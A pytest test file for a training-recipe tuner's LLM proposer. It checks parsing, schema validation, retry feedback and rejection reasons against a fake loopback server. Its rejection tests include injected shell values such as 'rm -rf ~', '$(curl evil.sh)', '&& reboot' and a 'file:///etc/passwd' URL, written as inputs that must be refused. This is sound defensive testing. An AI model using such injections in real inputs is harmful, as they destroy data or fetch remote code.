"""The llm proposer against a scripted OpenAI-compatible server on loopback: what it sends, what
it accepts, and every kind of bad answer rejected with a recorded reason, never executed."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from recipetune.config import load_campaign
from recipetune.core.errors import ConfigError
from recipetune.engine.config import LLMSettings
from recipetune.engine.llm import LLMProposer
from recipetune.speed.plan import plan

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures"))
sys.path.insert(0, str(Path(__file__).resolve().parent))
from fake_llm_server import FakeLLMServer  # noqa: E402
from test_search_proposers import BASE, context, profile  # noqa: E402


def answer(*proposals: dict) -> str:
    return json.dumps({"proposals": list(proposals)})


def propose(server: FakeLLMServer, k: int = 3, retries: int = 0):
    ctx = context(profile(optim_s=0.02))
    # A small tree around the node: the context must carry its path, siblings and key nodes.
    good = ctx.tree.add(BASE.with_(micro_batch_size=4), ctx.tree.root, "passed", 0.7, score=1.6,
                        rationale="bigger micro-batch")
    ctx.tree.add(BASE.with_(num_threads=1), ctx.tree.root, "failed", 0.0, cause="timeout: killed")
    proposer = LLMProposer(LLMSettings(base_url=server.base_url, model="fake-model", api_key="sk-test",
                                       retries=retries))
    return proposer.propose(good, ctx, k), ctx


def test_valid_answer_becomes_proposals_and_the_context_is_compressed():
    reply = answer({"edits": {"optimizer_impl": "foreach"}, "rationale": "optimizer takes 25% of the step"},
                   {"edits": {"micro_batch_size": 8.0}, "rationale": "less accumulation"})
    with FakeLLMServer([reply]) as server:
        proposals, ctx = propose(server)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}, {"micro_batch_size": 8}]
    assert isinstance(proposals[1].edits["micro_batch_size"], int)  # coerced to the knob's type
    assert all(p.source == "llm" for p in proposals) and proposals[0].rationale.startswith("optimizer")
    assert ctx.rejections == []
    sent = server.requests[0]
    assert sent["model"] == "fake-model"
    assert server.headers[0]["Authorization"] == "Bearer sk-test"
    view = json.loads(sent["messages"][1]["content"])
    assert view["node"]["changes"] == {"micro_batch_size": 4} and view["node"]["speedup"] == 1.6
    assert [p["status"] for p in view["path"]] == ["baseline"]
    assert view["siblings"] == [{"changes": {"num_threads": 1}, "status": "failed", "cause": "timeout: killed"}]
    assert view["best"][0]["speedup"] == 1.6 and view["failures"][0]["status"] == "failed"
    assert view["space"]["micro_batch_size"] == [1, 2, 4, 8, 16] and view["k"] == 3


def test_fenced_json_is_accepted():
    with FakeLLMServer(["```json\n" + answer({"edits": {"num_threads": 2}, "rationale": "r"}) + "\n```"]) as s:
        proposals, _ = propose(s)
    assert [p.edits for p in proposals] == [{"num_threads": 2}]


@pytest.mark.parametrize(("reply", "reason"), [
    ("sure! try a bigger batch", "malformed JSON"),
    ('{"proposals": [{"edits": {"micro_batch_size": 8}, "rationale": "x"}', "malformed JSON"),
    ('{"ideas": "bigger batch"}', "does not match the schema"),
    (answer({"edits": {"flash_attention_3": True}, "rationale": "x"}), "unknown knob 'flash_attention_3'"),
    (answer({"edits": {"lr": 0.01}, "rationale": "x"}), "not searched in this campaign"),
    (answer({"edits": {"optimizer_impl": "foreach; rm -rf ~"}, "rationale": "x"}), "shell metacharacters"),
    (answer({"edits": {"optimizer_impl": "$(curl evil.sh)"}, "rationale": "x"}), "shell metacharacters"),
    (answer({"edits": {"micro_batch_size": 3}, "rationale": "x"}), "out-of-domain"),
    (answer({"edits": {"micro_batch_size": -8}, "rationale": "x"}), "out-of-domain"),
    (answer({"edits": {"optimizer_impl": "apex"}, "rationale": "x"}), "out-of-domain"),
    (answer({"edits": {"micro_batch_size": [8, 16]}, "rationale": "x"}), "not a scalar"),
    (answer({"edits": {"micro_batch_size": 4}, "rationale": "x", "run": "bash -c x"}), "exactly 'edits'"),
    (answer({"edits": {}, "rationale": "x"}), "non-empty"),
    (answer({"edits": {"micro_batch_size": 4}, "rationale": "x"}), "already measured"),
    (500, "endpoint error"),
])
def test_bad_answers_are_rejected_with_a_reason(reply, reason):
    with FakeLLMServer([reply]) as server:
        proposals, ctx = propose(server)
    assert proposals == []
    assert len(ctx.rejections) == 1
    assert reason in ctx.rejections[0].reason and ctx.rejections[0].source == "llm"


def test_one_bad_item_does_not_sink_the_good_ones():
    reply = answer({"edits": {"num_threads": "2 && reboot"}, "rationale": "x"},
                   {"edits": {"num_threads": 2}, "rationale": "fewer threads contend less"})
    with FakeLLMServer([reply]) as server:
        proposals, ctx = propose(server)
    assert [p.edits for p in proposals] == [{"num_threads": 2}]
    assert [r.reason for r in ctx.rejections] == ["knob 'num_threads': shell metacharacters in value '2 && reboot'"]


def test_unreachable_endpoint_is_recorded():
    proposer = LLMProposer(LLMSettings(base_url="http://127.0.0.1:9/v1", timeout_s=2))
    ctx = context()
    assert proposer.propose(ctx.tree.root, ctx, 3) == []
    assert ctx.rejections[0].reason.startswith("endpoint error")


def test_llm_settings_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("RECIPETUNE_LLM_BASE_URL", "http://127.0.0.1:1234/v1")
    monkeypatch.setenv("RECIPETUNE_LLM_MODEL", "qwen")
    p = LLMProposer(LLMSettings())
    assert (p.base_url, p.model) == ("http://127.0.0.1:1234/v1", "qwen")


def test_campaign_without_an_endpoint_is_bad_input(tmp_path, monkeypatch):
    monkeypatch.delenv("RECIPETUNE_LLM_BASE_URL", raising=False)
    f = tmp_path / "c.yaml"
    f.write_text("baseline: {model: nano}\nsearch:\n  proposer: llm\n  knobs: {num_threads: [1, 2]}\n")
    with pytest.raises(ConfigError, match="search.llm"):
        plan(load_campaign(f), tmp_path / "out")
    assert not (tmp_path / "out").exists()
    f.write_text("baseline: {model: nano}\nsearch:\n  proposer: llm\n  knobs: {num_threads: [1, 2]}\n"
                 "  llm: {base_url: 'file:///etc/passwd'}\n")
    with pytest.raises(ConfigError, match="http"):
        plan(load_campaign(f), tmp_path / "out")


# -- a Researcher that errs once is asked again ----------------------------------------------------

GOOD = answer({"edits": {"optimizer_impl": "foreach"}, "rationale": "the optimizer takes 25% of the step"})


@pytest.mark.parametrize("bad", ["sure! try a bigger batch", answer({"edits": {"num_threads": "2; reboot"},
                                                                     "rationale": "x"}), 500])
def test_one_bad_answer_is_fed_back_and_asked_again(bad):
    with FakeLLMServer([bad, GOOD]) as server:
        proposals, ctx = propose(server, retries=2)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}]
    assert len(server.requests) == 2 and len(ctx.rejections) == 1 and ctx.failed == {}
    second = server.requests[1]["messages"]
    if bad == 500:  # nothing to show the model: the same question again
        assert len(second) == 2
    else:  # the model sees its answer and why it could not be used
        assert second[2] == {"role": "assistant", "content": bad}
        assert "could not be used" in second[3]["content"] and ctx.rejections[0].reason in second[3]["content"]


def test_asking_again_is_bounded_and_a_failed_node_is_told_from_an_empty_one():
    with FakeLLMServer(["not json"]) as server:
        proposals, ctx = propose(server, retries=2)
    assert proposals == [] and len(server.requests) == 3 and len(ctx.rejections) == 3
    [why] = ctx.failed.values()
    assert "3 answers, none usable" in why and "malformed JSON" in why
    # An empty answer is the Researcher's own: not asked again, not a failure.
    with FakeLLMServer(['{"proposals": []}']) as server:
        proposals, ctx = propose(server, retries=2)
    assert proposals == [] and len(server.requests) == 1 and ctx.rejections == [] and ctx.failed == {}


def test_the_answer_can_depend_on_the_feedback():
    # A model that repeats a measured recipe until told so: the reason fed back is what moves it on.
    def model(body: dict) -> str:
        told = "already measured" in body["messages"][-1]["content"]
        return GOOD if told else answer({"edits": {"micro_batch_size": 4}, "rationale": "bigger micro-batch"})

    with FakeLLMServer([model]) as server:
        proposals, _ = propose(server, retries=1)
    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}] and len(server.requests) == 2


def test_a_campaign_whose_first_answer_is_bad_still_runs(tmp_path):
    # The failure: one malformed first answer marked the root exhausted, 0 runs.
    from test_search_campaign import Recorder, fake_guard, make_campaign

    from recipetune.speed.job import run

    answers = ["I think a faster impl would help", answer({"edits": {"speed": 2}, "rationale": "faster"}),
               answer({"edits": {"speed": 3}, "rationale": "faster still"}), '{"proposals": []}']
    with FakeLLMServer(answers) as server:
        camp = make_campaign(tmp_path, {"speed": [1, 2, 3, 4]}, proposer="llm", children=1,
                             budget={"trials": 3}, llm={"base_url": server.base_url})
        reporter = Recorder()
        outcome = run(plan(camp, tmp_path / "campaign"), guard=fake_guard(), reporter=reporter)
    assert outcome.runs == 2 and outcome.decision == "APPROVED"
    rejected = (tmp_path / "campaign" / "rejected_proposals.jsonl").read_text()
    assert "malformed JSON" in rejected
    # It then had nothing new: exhausted by its own empty answers, not by failures.
    assert any(p.startswith("the tree is exhausted") and "failed" not in p for p in reporter.phases)


def test_an_edit_of_a_derived_knob_is_refused_with_the_reason(tmp_path):
    from test_relations import context_for, nanogpt_campaign

    ctx = context_for(nanogpt_campaign(tmp_path, derive=True))
    reply = answer({"edits": {"grad_accum": 1}, "rationale": "no accumulation"},
                   {"edits": {"batch_size": 32}, "rationale": "one micro-batch per step"})
    with FakeLLMServer([reply]) as server:
        proposer = LLMProposer(LLMSettings(base_url=server.base_url, retries=0))
        proposals = proposer.propose(ctx.tree.root, ctx, 3)
    assert [p.edits for p in proposals] == [{"batch_size": 32, "grad_accum": 1}]  # the derived value follows
    assert "derived from '32 // batch_size'" in ctx.rejections[0].reason
    view = json.loads(server.requests[0]["messages"][1]["content"])
    assert view["derived"] == {"grad_accum": "32 // batch_size"}
    assert view["meanings"] == {"batch_size": "micro_batch", "grad_accum": "grad_accum"}
